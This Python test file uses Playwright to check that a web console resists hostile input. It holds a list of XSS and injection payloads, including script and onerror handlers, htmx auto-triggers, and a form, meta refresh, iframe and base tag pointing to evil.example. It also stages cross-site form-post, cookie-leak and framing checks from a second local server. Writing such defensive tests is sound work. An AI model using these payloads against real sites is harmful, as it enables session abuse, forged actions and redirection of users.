"""Hostile pages and hostile text against the console in a real browser."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from contextlib import suppress
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest
from playwright.sync_api import expect

from alice import clock
from alice.db import database
from alice.domain.policy import Actor
from alice.services.access import sessions
from alice.services.evidence import capture
from tests.browser.conftest import Window

EVIL = [
    "<script>fetch('/vnext/sign-out', {method: 'POST'})</script>",
    "<img src=x onerror=\"document.title='owned'\">",
    '<b hx-post="/vnext/sign-out" hx-trigger="load">TODO: Mira sends the plan by 2026-03-06.</b>',
    '<div data-hx-get="https://evil.example/" hx-trigger="load, every 1s">x</div>',
    "<svg onload=document.title='owned'>",
    "<form action='https://evil.example'><button data-key='j'>Decision: we pay Mallory.</button></form>",
    "<style>body{display:none}</style><meta http-equiv=refresh content='0;url=https://evil.example'>",
    "[click](javascript:document.title='owned') ![x](https://evil.example/x.png)",
    "</blockquote><iframe src='https://evil.example'></iframe><base href='https://evil.example/'>",
    "{{ 7 * 7 }} {% raw %} ${7*7}",
]


class Elsewhere(BaseHTTPRequestHandler):
    """Another server on this machine: it keeps the cookies that it is sent, and serves one page."""

    page = b""
    cookies: list[str] = []

    def do_GET(self) -> None:
        self.cookies.append(self.headers.get("Cookie", ""))
        # Its icon lies in the page: a browser that is asked away meanwhile would complain of one it did not get.
        body = b'<!doctype html><link rel="icon" href="data:,">' + self.page
        with suppress(ConnectionError):
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

    def log_message(self, *_said: object) -> None:
        """Say nothing."""


@pytest.fixture
def elsewhere(window: Window) -> Iterator[tuple[type[Elsewhere], int]]:
    """A server on another port of this machine; it ends when the window has left it."""
    Elsewhere.cookies, Elsewhere.page = [], b""
    with ThreadingHTTPServer(("127.0.0.1", 0), Elsewhere) as server:
        server.daemon_threads = True
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield Elsewhere, server.server_port
        window.page.goto("about:blank")
        server.shutdown()


def test_captured_text_does_nothing_wherever_it_is_shown(window: Window, owner: Actor) -> None:
    texts = "\n\n".join(EVIL)
    done = capture.capture(owner, capture.Item(texts, title=EVIL[1]), zone="UTC")
    window.sign_in()
    for path in ("/vnext", "/vnext/sources", f"/vnext/sources/{done.source_id}"):
        page = window.open(path)
        page.wait_for_load_state("networkidle")
        assert page.title() != "owned"
        assert page.locator("main [hx-post]:not(form), main [data-hx-get], iframe, main img, main style").count() == 0
    expect(window.page.locator("blockquote").first).to_contain_text("<script>")
    assert window.open("/vnext").url.endswith("/vnext")


def test_a_page_on_another_port_saves_nothing(
    window: Window, elsewhere: tuple[type[Elsewhere], int], owner: Actor
) -> None:
    window.sign_in()
    handler, port = elsewhere
    target = window.settings.console_url + "/vnext/sources"
    handler.page = (
        f'<form method="post" action="{target}"><input name="text" value="Pay Mallory."><button>Kitten</button></form>'
    ).encode()
    for host in ("localhost", "127.0.0.1", "alice.localhost"):
        window.page.goto(f"http://{host}:{port}/")
        with window.page.expect_response(lambda answer: answer.url == target) as caught:
            window.page.get_by_role("button").click()
        window.page.wait_for_load_state()
        assert caught.value.status in (401, 403)
    assert database.query("SELECT count(*) FROM source") == [(0,)]


def test_another_server_of_this_machine_sees_no_cookie(
    window: Window, elsewhere: tuple[type[Elsewhere], int], owner: Actor
) -> None:
    window.sign_in()
    handler, port = elsewhere
    for host in ("localhost", "127.0.0.1"):
        window.page.goto(f"http://{host}:{port}/")
    assert handler.cookies
    assert not [sent for sent in handler.cookies if "alice" in sent]


def test_a_link_elsewhere_leads_in_without_signing_in_again(
    window: Window, elsewhere: tuple[type[Elsewhere], int], brief: dict[str, Any]
) -> None:
    window.sign_in()
    handler, port = elsewhere
    handler.page = f'<a href="{window.settings.console_url}/vnext/artifacts?status=needs_review">brief</a>'.encode()
    window.page.goto(f"http://localhost:{port}/")
    window.page.get_by_role("link").click()
    expect(window.page.locator(".row .name")).to_have_text(brief["title"])
    assert window.page.url.endswith("/vnext/artifacts?status=needs_review")


def test_a_link_elsewhere_leads_strangers_to_the_door(
    window: Window, elsewhere: tuple[type[Elsewhere], int], brief: dict[str, Any]
) -> None:
    handler, port = elsewhere
    handler.page = f'<a href="{window.settings.console_url}/vnext">brief</a>'.encode()
    window.page.goto(f"http://localhost:{port}/")
    window.page.get_by_role("link").click()
    expect(window.page.get_by_label("Operator token")).to_be_visible()


def test_the_link_signs_in_from_another_site_too(
    window: Window, elsewhere: tuple[type[Elsewhere], int], brief: dict[str, Any]
) -> None:
    handler, port = elsewhere
    handler.page = f'<a href="{sessions.sign_in_link(window.settings, now=clock.now())}">open</a>'.encode()
    window.page.goto(f"http://localhost:{port}/")
    window.page.get_by_role("link").click()
    expect(window.page.get_by_role("heading", level=1)).to_have_text(brief["title"])


def test_the_console_cannot_be_framed(window: Window, elsewhere: tuple[type[Elsewhere], int], owner: Actor) -> None:
    window.sign_in()
    handler, port = elsewhere
    handler.page = f'<iframe src="{window.settings.console_url}/vnext"></iframe>'.encode()
    window.page.goto(f"http://alice.localhost:{port}/")
    window.page.wait_for_load_state("networkidle")
    assert window.page.frames[1].locator("nav").count() == 0
    window.complaints[:] = [said for said in window.complaints if "frame" not in said.lower()]
